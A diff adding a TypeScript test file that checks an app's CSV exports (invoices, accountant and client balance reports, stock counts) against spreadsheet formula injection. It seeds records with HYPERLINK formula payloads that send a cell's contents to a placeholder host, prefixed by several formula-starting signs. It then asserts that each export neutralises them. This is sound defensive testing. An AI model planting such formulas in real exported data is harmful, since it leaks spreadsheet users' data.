@@ -1,0 +1,97 @@
+import { beforeAll, describe, expect, test } from 'vitest';
+import { csv } from '#shared/csv.ts';
+import { el } from '#shared/i18n/el/index.ts';
+import { type Language, translator } from '#shared/i18n/translate.ts';
+import type { CsvFile } from '#web/base/save-csv.ts';
+import { countCsv } from '#web/count/count-csv.ts';
+import type { WholeCount } from '#web/count/count.ts';
+import { invoiceCsv } from '#web/invoice/invoice-csv.ts';
+import { accountantCsv } from '#web/report/accountant-csv.ts';
+import { clientsCsv } from '#web/report/clients-csv.ts';
+import { makeClient, makeClientItem, makeInvoice, makePlace, pricedJob } from './builders.ts';
+import { databases, useServer } from './server.ts';
+
+const t = translator(el);
+/** What spreadsheets take for the beginning of a formula, also the wide ones of keyboards of the East. */
+const signs = ['=', '+', '-', '@', '\t=', '\r=', '＝', '＋', '－', '＠'];
+const formulaOf = (sign: string) => `${sign}1+HYPERLINK("http://a/?"&A1)`;
+
+const textOf = <Row>({ columns, rows }: CsvFile<Row>, language: Language) =>
+  csv({ columns: columns(t, language), rows, language });
+
+describe.each(databases)('every file for a spreadsheet, of what %s answers,', (database) => {
+  const house = useServer(database);
+  const made = { count: '' };
+
+  beforeAll(async () => {
+    const { server } = house;
+    for (const [n, sign] of signs.entries()) {
+      const formula = formulaOf(sign);
+      const client = await makeClient(server, { companyName: formula, firstName: formula });
+      const job = await pricedJob(server, client._id, 50);
+      await makeInvoice(server, { client: client._id, jobs: [job._id] });
+      const place = (await makePlace(server, { code: `${sign.trim()}${n}` }))._id;
+      const piece = await makeClientItem(server, { client: client._id, title: formula });
+      const stay = { clientItem: piece._id, startDate: '2026-03-04', notes: 'Ράφι', place };
+      await server.ok('POST /stay', { body: stay });
+    }
+    const { _id } = await server.ok('POST /count', { body: { place: null } });
+    for (const [n, sign] of signs.entries()) {
+      const at = '2026-03-05T09:00:00.000Z';
+      const body = { id: `scan-0000${n}`, at, code: formulaOf(sign), place: null };
+      await server.ok('POST /count/:id/scan', { params: { id: _id }, body });
+    }
+    made.count = _id;
+  });
+
+  const everything = { from: '2000-01-01', to: '2099-12-31' };
+  /** The call of each, and the file that the browser makes of its answer. */
+  const files: Record<string, (language: Language) => Promise<string>> = {
+    invoices: async (language) => {
+      const body = { page: 1, size: 99_999_999 };
+      const { data: rows } = await house.server.ok('POST /invoice/search', { body });
+      return invoiceCsv({ rows, t, language });
+    },
+    'the accountant’s report': async (language) => {
+      const body = { filters: everything, showAll: true };
+      const report = await house.server.ok('POST /report/accountant-balance-report', { body });
+      return textOf(accountantCsv(report, everything), language);
+    },
+    'what clients owe': async (language) => {
+      const body = { filters: everything };
+      const report = await house.server.ok('POST /report/clients-balance-report', { body });
+      return textOf(clientsCsv(report), language);
+    },
+    'a count': async (language) => {
+      const count = { params: { id: made.count }, query: {} };
+      const answer = await house.server.send('GET /count/:id', count);
+      return textOf(countCsv(answer.json<WholeCount>()), language);
+    },
+  };
+
+  test.each(Object.keys(files))(
+    '%s: no cell is a formula, and every text is there',
+    async (name) => {
+      for (const language of ['el', 'en'] as const) {
+        const rows = cellsOf((await files[name]?.(language)) ?? '', language === 'el' ? ';' : ',');
+        expect(rows.length).toBeGreaterThan(signs.length);
+        const cells = rows.flat();
+        expect(cells.filter((cell) => /^[=+\-@\t\r＝＋－＠]/.test(cell))).toEqual([]);
+        for (const sign of signs) expect(cells).toContain(`'${formulaOf(sign).trim()}`);
+      }
+    },
+  );
+});
+
+/** Reads by the grammar of RFC 4180, all cells quoted. */
+function cellsOf(file: string, separator: string): string[][] {
+  const pattern = new RegExp(`"((?:[^"]|"")*)"(${separator}|\r\n)`, 'y');
+  pattern.lastIndex = 1;
+  const rows: string[][] = [[]];
+  for (let match = pattern.exec(file); match !== null; match = pattern.exec(file)) {
+    rows.at(-1)?.push((match[1] ?? '').replaceAll('""', '"'));
+    if (match[2] === '\r\n') rows.push([]);
+  }
+  expect(file[0]).toBe('\uFEFF');
+  return rows.slice(0, -1);
+}
